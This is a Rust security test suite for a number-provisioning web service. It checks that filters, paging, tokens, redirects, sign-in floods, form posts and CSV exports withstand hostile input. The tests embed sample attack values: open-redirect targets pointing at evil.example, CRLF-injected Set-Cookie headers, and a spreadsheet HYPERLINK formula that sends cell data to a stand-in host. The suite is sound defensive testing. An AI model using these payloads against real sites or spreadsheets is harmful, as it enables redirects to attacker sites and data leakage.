//! What a stranger sends, through the real router: hostile filters, paging, tokens, redirect
//! targets, sign-in floods, one-time passwords, spreadsheet formulas, and what error answers
//! reveal. Each test checks that the server keeps serving, that nothing changed where nothing
//! should, and that the answer names the field and the rule.

use crate::common::{self, app_without_bundle, get, send, Browser, TestDb};
use axum::body::Body;
use axum::http::{Request, StatusCode};
use numbat::auth::users::PortalRole;
use numbat::provisioning::{Door, Role};
use serde_json::Value;

const V: &str = "api-version=2024-02-29-preview";

async fn api_get(app: &axum::Router, token: &str, path_and_query: &str) -> (StatusCode, Value) {
    let request = Request::get(format!("/provisioning{path_and_query}&{V}"))
        .header("authorization", format!("Bearer {token}"))
        .body(Body::empty())
        .unwrap();
    let (response, text) = send(app, request).await;
    let value = serde_json::from_str(&text).unwrap_or(Value::Null);
    (response.status(), value)
}

async fn number_count(db: &numbat::store::Database) -> i64 {
    let numbat::store::Database::Sqlite(pool) = db else {
        panic!("these tests run on SQLite")
    };
    sqlx::query_scalar("SELECT COUNT(*) FROM numbers")
        .fetch_one(pool)
        .await
        .unwrap()
}

#[tokio::test]
async fn a_filter_nested_past_the_limit_is_a_400_and_the_server_keeps_serving() {
    let test = TestDb::sqlite().await.migrated().await;
    let app = app_without_bundle(&test.db);
    let read_only = crate::common::api_token(&test.db, "reader", &[Role::Read]).await;
    // Once, this killed the whole process with a stack overflow.
    for hostile in [
        "(".repeat(15_000),
        format!("{}accountName eq 'a'{}", "(".repeat(40), ")".repeat(40)),
        format!("{}accountName eq 'a'", "not ".repeat(40)),
        vec!["accountName eq 'a'"; 100].join(" or "),
    ] {
        let query = format!("/numbers?filter={}", numbat::ui::encode(&hostile));
        let (status, body) = api_get(&app, &read_only, &query).await;
        assert_eq!(status, StatusCode::BAD_REQUEST, "{body}");
        assert_eq!(body["error"]["target"], "filter", "{body}");
        let message = body["error"]["message"].as_str().unwrap();
        assert!(
            message.contains("longer than 2048 bytes")
                || message.contains("32 deep")
                || message.contains("more than 64 conditions"),
            "{message}"
        );
    }
    let (status, _) = api_get(&app, &read_only, "/numbers?filter=accountName%20eq%20'a'").await;
    assert_eq!(status, StatusCode::OK, "an ordinary filter still works");
    assert_eq!(get(&app, "/healthz").await.0.status(), StatusCode::OK);
}

#[tokio::test]
async fn skip_past_what_keyset_paging_answers_cheaply_is_refused_with_the_limit() {
    let test = TestDb::sqlite().await.migrated().await;
    let app = app_without_bundle(&test.db);
    let token = crate::common::api_token(&test.db, "bss", &[Role::Read]).await;
    let (status, body) = api_get(&app, &token, "/numbers?skip=2147483647").await;
    assert_eq!(status, StatusCode::BAD_REQUEST, "{body}");
    assert_eq!(body["error"]["target"], "skip");
    assert!(body["error"]["message"]
        .as_str()
        .unwrap()
        .contains("at most 10000"));
    let (status, _) = api_get(&app, &token, "/numbers?skip=10000").await;
    assert_eq!(status, StatusCode::OK, "the limit itself is allowed");
}

#[tokio::test]
async fn unknown_and_malformed_tokens_are_refused_without_writing() {
    let test = TestDb::sqlite().await.migrated().await;
    let app = app_without_bundle(&test.db);
    // Another writer holds SQLite's write lock for the whole check: a request that tried to
    // write (as unknown tokens once did, to mark them used) would wait and then fail.
    let numbat::store::Database::Sqlite(pool) = &test.db else {
        unreachable!()
    };
    let mut writer = pool.acquire().await.unwrap();
    sqlx::query("BEGIN IMMEDIATE")
        .execute(&mut *writer)
        .await
        .unwrap();
    for secret in [
        format!("nbt_{}", "0".repeat(64)),
        "nbt_short".to_owned(),
        format!("nbt_{}", "z".repeat(5_000)),
        "nbt_\u{e9}".to_owned(),
    ] {
        let request = Request::get(format!("/provisioning/numbers?{V}"))
            .header("authorization", format!("Bearer {secret}"))
            .body(Body::empty())
            .unwrap();
        let (response, text) = send(&app, request).await;
        assert_eq!(response.status(), StatusCode::UNAUTHORIZED, "{text}");
    }
    sqlx::query("ROLLBACK").execute(&mut *writer).await.unwrap();
}

#[tokio::test]
async fn redirect_targets_stay_on_this_site_however_they_are_written() {
    let _renderer = common::one_renderer_at_a_time().await;
    let test = TestDb::sqlite().await.migrated().await;
    let app = app_without_bundle(&test.db);
    for (back, expected) in [
        ("/%09/evil.example", "/"),
        ("/%5Cevil.example", "/"),
        ("//evil.example", "/"),
        ("https://evil.example/", "/"),
        ("/%0D%0ASet-Cookie:%20x=1", "/Set-Cookie:%20x=1"),
        ("/numbers?q=44", "/numbers?q=44"),
    ] {
        let (response, _) = get(&app, &format!("/theme?set=dark&back={back}")).await;
        assert_eq!(response.status(), StatusCode::SEE_OTHER, "{back}");
        assert_eq!(response.headers()["location"], expected, "{back}");
    }

    // A bulk action carries the list's search back in its redirect: CR and LF in it once
    // panicked the connection's task.
    let mut writer = Browser::signed_in(&app, &test.db, "wes", &[PortalRole::WriteUser]).await;
    let (response, _) = writer
        .post(
            "/numbers/bulk",
            "action=nothing&filter=q%3D44%0D%0ASet-Cookie%3A%20x%3D1%09%5C",
        )
        .await;
    assert_eq!(response.status(), StatusCode::SEE_OTHER);
    let location = response.headers()["location"].to_str().unwrap();
    assert!(location.starts_with("/numbers?bulk_error="), "{location}");
    assert!(
        !location.contains(['\r', '\n', '\t', '\\', ' ']),
        "{location}"
    );

    let password = common::add_user(&test.db, "ana", &[PortalRole::ReadUser]).await;
    for next in [
        "/%09/evil.example",
        "/%0D%0A/evil.example",
        "%2F%2Fevil.example",
    ] {
        let mut browser = Browser::new(&app);
        let (response, _) = browser
            .post(
                "/sign-in",
                &format!("name=ana&password={password}&next={next}"),
            )
            .await;
        // The one-time password goes to /password first; a wrong one comes back with `next`.
        assert_eq!(response.status(), StatusCode::SEE_OTHER, "{next}");
        assert_eq!(response.headers()["location"], "/password", "{next}");
        let (response, _) = browser
            .post(
                "/sign-in",
                &format!("name=ana&password=wrong-password&next={next}"),
            )
            .await;
        assert_eq!(response.status(), StatusCode::SEE_OTHER, "{next}");
        assert_eq!(
            response.headers()["location"],
            "/sign-in?error=credentials&next=/",
            "{next}"
        );
    }
}

#[tokio::test]
async fn a_flood_of_wrong_passwords_locks_the_name_and_others_still_sign_in() {
    let _renderer = common::one_renderer_at_a_time().await;
    let test = TestDb::sqlite().await.migrated().await;
    let app = app_without_bundle(&test.db);
    let mut bob = Browser::signed_in(&app, &test.db, "bob", &[PortalRole::ReadUser]).await;
    let alice_password = common::add_user(&test.db, "alice", &[PortalRole::AdminUser]).await;

    let attempt = |password: String| {
        let app = app.clone();
        async move {
            let mut browser = Browser::new(&app);
            browser
                .post(
                    "/sign-in",
                    &format!("name=alice&password={password}&next=/"),
                )
                .await
                .0
        }
    };
    let flood: Vec<_> = (0..40)
        .map(|n| tokio::spawn(attempt(format!("guess-{n}"))))
        .collect();
    let mut refused = 0;
    let mut throttled = 0;
    for answer in flood {
        let response = answer.await.unwrap();
        match response.status() {
            StatusCode::SEE_OTHER => refused += 1,
            StatusCode::TOO_MANY_REQUESTS => {
                let wait: u64 = response.headers()["retry-after"]
                    .to_str()
                    .unwrap()
                    .parse()
                    .unwrap();
                assert!(wait >= 1);
                throttled += 1;
            }
            other => panic!("a guess was answered {other}"),
        }
    }
    assert!(refused <= 8, "only a few guesses are checked: {refused}");
    assert!(throttled >= 32, "the rest are throttled: {throttled}");

    // The right password does not get in while the name is locked.
    let response = attempt(alice_password.clone()).await;
    assert_eq!(response.status(), StatusCode::TOO_MANY_REQUESTS);
    let (_, page) = {
        let mut browser = Browser::new(&app);
        browser
            .post("/sign-in", &format!("name=alice&password={alice_password}"))
            .await
    };
    assert!(
        page.contains("Too many wrong passwords for this user name"),
        "{page}"
    );

    // Someone else signs in meanwhile, and bob's session goes on working.
    let mut carol = Browser::new(&app);
    let carol_password = common::add_user(&test.db, "carol", &[PortalRole::ReadUser]).await;
    let (response, _) = carol
        .post(
            "/sign-in",
            &format!("name=carol&password={carol_password}&next=/"),
        )
        .await;
    assert_eq!(response.headers()["location"], "/password");
    assert_eq!(bob.get("/numbers").await.0.status(), StatusCode::OK);

    // The lock is in the audit trail.
    let numbat::store::Database::Sqlite(pool) = &test.db else {
        unreachable!()
    };
    let locks: i64 = sqlx::query_scalar(
        "SELECT COUNT(*) FROM audit_events WHERE action = 'signInLocked' AND resource_key = 'alice'",
    )
    .fetch_one(pool)
    .await
    .unwrap();
    assert!(locks >= 1, "a lock is audited");

    // A password longer than any real one is refused without hashing it.
    let (response, _) = Browser::new(&app)
        .post(
            "/sign-in",
            &format!("name=carol&password={}", "x".repeat(2_000)),
        )
        .await;
    assert_eq!(response.status(), StatusCode::SEE_OTHER);
    // And a form past the size limit is refused whole.
    let (response, _) = Browser::new(&app)
        .post(
            "/sign-in",
            &format!("name=carol&password={}", "x".repeat(20_000)),
        )
        .await;
    assert_eq!(response.status(), StatusCode::PAYLOAD_TOO_LARGE);
}

#[tokio::test]
async fn nothing_works_on_a_one_time_password_but_changing_it() {
    let _renderer = common::one_renderer_at_a_time().await;
    let test = TestDb::sqlite().await.migrated().await;
    let app = app_without_bundle(&test.db);
    let one_time = common::add_user(&test.db, "dee", &[PortalRole::AdminUser]).await;
    let mut dee = Browser::new(&app);
    dee.post("/sign-in", &format!("name=dee&password={one_time}"))
        .await;
    let before = number_count(&test.db).await;
    // A server function, an upload, a bulk action and a download: each refused.
    for (uri, form) in [
        (
            "/api/numbers/add",
            "form[account]=x&form[numbers]=%2B442071110000",
        ),
        ("/api/admin/tokens/create", "name=sneaky&roles[admin]=on"),
        ("/numbers/bulk", "action=delete&scope=matching&confirm=yes"),
    ] {
        let (response, text) = dee.post(uri, form).await;
        assert_eq!(response.status(), StatusCode::FORBIDDEN, "{uri}: {text}");
        assert!(
            text.contains("Change your one-time password first"),
            "{text}"
        );
    }
    let (response, _) = dee.get("/numbers/export.csv").await;
    assert_eq!(response.headers()["location"], "/password");
    assert_eq!(number_count(&test.db).await, before);
    assert!(common::cli_core(&test.db)
        .tokens(&common::cli_admin())
        .await
        .unwrap()
        .is_empty());
    // Changing it is allowed, and then everything works.
    let (response, _) = dee
        .post(
            "/password",
            &format!(
                "current={one_time}&new=a-long-enough-password&confirm=a-long-enough-password"
            ),
        )
        .await;
    assert_eq!(response.headers()["location"], "/?password_changed=1");
    assert_eq!(
        dee.get("/numbers/export.csv").await.0.status(),
        StatusCode::OK
    );
}

#[tokio::test]
async fn tokens_made_in_the_portal_are_audited_as_the_admin_who_made_them() {
    let _renderer = common::one_renderer_at_a_time().await;
    let test = TestDb::sqlite().await.migrated().await;
    let app = app_without_bundle(&test.db);
    let mut admin =
        Browser::signed_in(&app, &test.db, "root-admin", &[PortalRole::AdminUser]).await;
    assert_eq!(
        admin
            .post_error("/api/admin/tokens/create", "name=billing&roles[read]=on")
            .await,
        None
    );
    assert_eq!(
        admin
            .post_error("/api/admin/tokens/revoke", "name=billing&confirm=on")
            .await,
        None
    );
    let numbat::store::Database::Sqlite(pool) = &test.db else {
        unreachable!()
    };
    let events: Vec<(String, String, String)> = sqlx::query_as(
        "SELECT actor, door, action FROM audit_events WHERE resource_type = 'apiToken' ORDER BY id",
    )
    .fetch_all(pool)
    .await
    .unwrap();
    assert_eq!(
        events,
        [
            (
                "root-admin".to_owned(),
                "portal".to_owned(),
                "create".to_owned()
            ),
            (
                "root-admin".to_owned(),
                "portal".to_owned(),
                "delete".to_owned()
            ),
        ]
    );
}

#[tokio::test]
async fn every_answer_carries_the_security_headers_and_secrets_are_not_kept() {
    let _renderer = common::one_renderer_at_a_time().await;
    let test = TestDb::sqlite().await.migrated().await;
    let app = app_without_bundle(&test.db);
    let mut admin = Browser::signed_in(&app, &test.db, "hdr-admin", &[PortalRole::AdminUser]).await;
    admin
        .post_from(
            "/admin/tokens",
            "/api/admin/tokens/create",
            "name=ci&roles[read]=on",
        )
        .await;
    let (response, html) = admin.get("/admin/tokens").await;
    assert!(
        html.contains("data-testid=\"secret\""),
        "the secret is shown once"
    );
    let secret_shown = html
        .split("data-testid=\"secret\">")
        .nth(1)
        .and_then(|rest| rest.split('<').next())
        .unwrap()
        .to_owned();
    assert!(secret_shown.starts_with("nbt_"));
    let headers = response.headers();
    assert_eq!(headers["cache-control"], "no-store");
    assert_eq!(headers["x-frame-options"], "DENY");
    assert_eq!(headers["x-content-type-options"], "nosniff");
    assert_eq!(headers["referrer-policy"], "same-origin");
    let policy = headers["content-security-policy"].to_str().unwrap();
    assert!(
        policy.contains("frame-ancestors 'none'") && policy.contains("script-src 'self' 'nonce-"),
        "{policy}"
    );
    // Shown once, then gone from the page and from the session store.
    let (_, again) = admin.get("/admin/tokens").await;
    assert!(!again.contains(&secret_shown));
    let numbat::store::Database::Sqlite(pool) = &test.db else {
        unreachable!()
    };
    let sessions: Vec<String> = sqlx::query_scalar("SELECT data FROM portal_sessions")
        .fetch_all(pool)
        .await
        .unwrap();
    assert!(sessions.iter().all(|data| !data.contains(&secret_shown)));

    for path in [
        "/sign-in",
        "/numbers/export.csv",
        "/healthz",
        "/readyz",
        "/openapi.json",
    ] {
        let (response, _) = admin.get(path).await;
        for name in [
            "content-security-policy",
            "x-frame-options",
            "x-content-type-options",
        ] {
            assert!(response.headers().contains_key(name), "{path} lacks {name}");
        }
    }
    let (response, _) = admin.get("/numbers/export.csv").await;
    assert_eq!(response.headers()["cache-control"], "no-store");
}

#[tokio::test]
async fn health_answers_say_nothing_of_internals_when_the_database_fails() {
    let test = TestDb::sqlite().await.migrated().await;
    let app = app_without_bundle(&test.db);
    test.db.close().await;
    let (response, body) = get(&app, "/readyz").await;
    assert_eq!(response.status(), StatusCode::SERVICE_UNAVAILABLE);
    let body: Value = serde_json::from_str(&body).unwrap();
    assert_eq!(body["status"], "unavailable");
    assert!(body.get("error").is_none(), "{body}");
    // The node's own figures are still given, with the database marked down, and nothing of
    // the error.
    let (response, text) = get(&app, "/metrics").await;
    assert_eq!(response.status(), StatusCode::OK);
    assert!(text.contains("\nnumbat_database_up 0\n"), "{text}");
    assert!(
        text.contains("numbat_http_requests_total{door=\"other\",method=\"GET\",route=\"/readyz\",status=\"503\"} 1"),
        "{text}"
    );
    for detail in ["pool", "closed", "sqlite", "error"] {
        assert!(!text.to_lowercase().contains(detail), "{detail} in {text}");
    }
}

async fn api_put(app: &axum::Router, token: &str, path: &str, body: Value) -> StatusCode {
    let request = Request::put(format!("/provisioning{path}?{V}"))
        .header("authorization", format!("Bearer {token}"))
        .header("content-type", "application/json")
        .body(Body::from(body.to_string()))
        .unwrap();
    let (response, text) = send(app, request).await;
    assert!(response.status().is_success(), "{path}: {text}");
    response.status()
}

#[tokio::test]
async fn exported_formulas_arrive_as_text_and_import_back_unchanged() {
    use numbat::provisioning::{import::ImportMode, Actor, Provisioning};
    let _renderer = common::one_renderer_at_a_time().await;
    let test = TestDb::sqlite().await.migrated().await;
    let app = app_without_bundle(&test.db);
    let token = crate::common::api_token(&test.db, "bss", &[Role::Admin]).await;
    let formula = r#"=HYPERLINK("https://evil.example/?"&A2,"Open")"#;
    api_put(
        &app,
        &token,
        "/accounts/contoso",
        serde_json::json!({ "name": "contoso", "correlationId": formula,
            "serviceDetails": { "teamsDirectRouting": { "enabled": true } } }),
    )
    .await;
    for (number, header) in [("+442071110001", "-2-3"), ("+442071110002", "plain")] {
        api_put(
            &app,
            &token,
            &format!("/accounts/contoso/numbers/{}", numbat::ui::encode(number)),
            serde_json::json!({ "telephoneNumber": number, "accountName": "contoso",
                "serviceDetails": { "teamsDirectRouting": { "enabled": true } },
                "configuration": { "customSipHeader": header } }),
        )
        .await;
    }
    let mut admin = Browser::signed_in(&app, &test.db, "csv-admin", &[PortalRole::AdminUser]).await;
    let (_, accounts) = admin.get("/accounts/export.csv").await;
    assert!(!accounts.contains(",=HYPERLINK"), "{accounts}");
    assert!(accounts.contains("'=HYPERLINK"), "{accounts}");
    let (_, audit) = admin.get("/audit/export.csv").await;
    assert!(audit.contains("'=HYPERLINK"), "{audit}");
    let mut reader = csv::Reader::from_reader(audit.as_bytes());
    for record in reader.records() {
        for cell in record.unwrap().iter() {
            assert!(!cell.starts_with(['=', '-', '@', '\t', '\r']), "{cell}");
        }
    }

    // Numbers: export, import the export again (everything unchanged), export: the same file.
    let (_, first) = admin.get("/numbers/export.csv").await;
    assert!(first.contains(",'-2-3"), "{first}");
    assert!(
        first.contains("+442071110001,contoso"),
        "numbers stay numbers: {first}"
    );
    let core = Provisioning::new(test.db.clone());
    let cli = Actor::new("test", &[Role::Admin], Door::Cli);
    let summary = numbat::bulk::import_file(
        &core,
        &cli,
        "export.csv",
        std::io::Cursor::new(first.clone().into_bytes()),
        numbat::bulk::FileSettings::default(),
        ImportMode::Apply,
        |_, _| {},
    )
    .await
    .unwrap();
    assert_eq!(summary.tally.invalid, 0, "{:?}", summary.tally);
    assert_eq!(summary.tally.unchanged, 2, "{:?}", summary.tally);
    let (_, second) = admin.get("/numbers/export.csv").await;
    assert_eq!(first, second);
}

/// The number form's service boxes are read into a map of whatever keys the form posts, so a
/// stranger's post can carry thousands of keys, nested keys, huge values, CR/LF and bytes that
/// are not UTF-8. Each is refused or ignored without writing, and the server keeps serving.
#[tokio::test]
async fn hostile_number_form_posts_write_nothing_and_the_server_keeps_serving() {
    let _renderer = common::one_renderer_at_a_time().await;
    let test = TestDb::sqlite().await.migrated().await;
    let app = app_without_bundle(&test.db);
    let mut admin =
        Browser::signed_in(&app, &test.db, "hostile-admin", &[PortalRole::AdminUser]).await;
    let many_keys: String = (0..50_000)
        .map(|i| format!("form[junk{i}]=on"))
        .collect::<Vec<_>>()
        .join("&");
    let huge_value = format!("form[zoom]={}", "x".repeat(4 * 1024 * 1024));
    // An account where an ignored junk key would let the number be written: nothing may be.
    common::cli_core(&test.db)
        .put_account(
            &common::cli_admin(),
            numbat::domain::Account::named(numbat::domain::AccountName::parse("a").unwrap()),
            numbat::provisioning::Precondition::NONE,
        )
        .await
        .unwrap();
    let before = number_count(&test.db).await;
    for (why, body) in [
        (
            "50,000 keys",
            format!("form[account]=a&form[numbers]=%2B442079460001&{many_keys}"),
        ),
        (
            "a 4 MiB value",
            format!("form[account]=a&form[numbers]=%2B442079460001&{huge_value}"),
        ),
        (
            "nested keys",
            "form[account]=a&form[numbers]=%2B442079460001&form[zoom][a][b][c][d][e][f]=on"
                .to_owned(),
        ),
        (
            "CR/LF and bytes that are not UTF-8",
            "form[account]=a%0D%0A&form[numbers]=%2B4420%FF%FE&form[zoom%0D%0A]=on%00".to_owned(),
        ),
    ] {
        let (response, _) = admin
            .post_from("/numbers/new", "/api/numbers/add", &body)
            .await;
        assert!(
            !response.status().is_server_error(),
            "{why}: {}",
            response.status()
        );
        assert_eq!(
            number_count(&test.db).await,
            before,
            "{why}: nothing written"
        );
    }
    assert_eq!(get(&app, "/healthz").await.0.status(), StatusCode::OK);
    test.remove().await;
}
